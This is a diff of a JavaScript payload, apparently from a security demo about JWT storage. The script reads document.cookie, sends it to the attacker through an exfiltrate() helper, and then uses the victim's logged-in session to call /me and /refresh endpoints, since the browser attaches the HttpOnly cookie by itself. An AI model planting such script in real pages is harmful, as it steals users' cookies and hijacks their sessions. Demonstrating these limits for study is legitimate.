@@ -66,20 +66,18 @@
   // 3. An HttpOnly cookie is not in document.cookie. Send the thief what is there anyway, then use
   //    the login from this very page: the browser adds the cookie to the page's requests by itself.
   void (async () => {
-    const cookies = Object.fromEntries(
-      document.cookie
-        .split('; ')
-        .filter(Boolean)
-        .map((pair) => [pair.slice(0, pair.indexOf('=')), pair.slice(pair.indexOf('=') + 1)]),
-    )
-    const replay = await exfiltrate('jwt-cookie', { kind: 'cookies', cookies })
+    const visible = document.cookie
+      .split('; ')
+      .filter(Boolean)
+      .map((pair) => pair.slice(0, pair.indexOf('=')))
+    const replay = await exfiltrate('jwt-cookie', { kind: 'document.cookie', value: document.cookie })
     const me = await send('/api/jwt-cookie/me')
     const meBody = await me.json().catch(() => null)
     const refresh = await send('/api/jwt-cookie/refresh', { method: 'POST' })
     const refreshBody = await refresh.json().catch(() => null)
     report({
       where: 'cookie',
-      visible: Object.keys(cookies),
+      visible,
       replay,
       ride: { status: me.status, code: meBody?.code ?? null, username: meBody?.user?.username ?? null },
       rideRefresh: { status: refresh.status, code: refreshBody?.code ?? null, fields: refreshBody ? Object.keys(refreshBody) : [] },
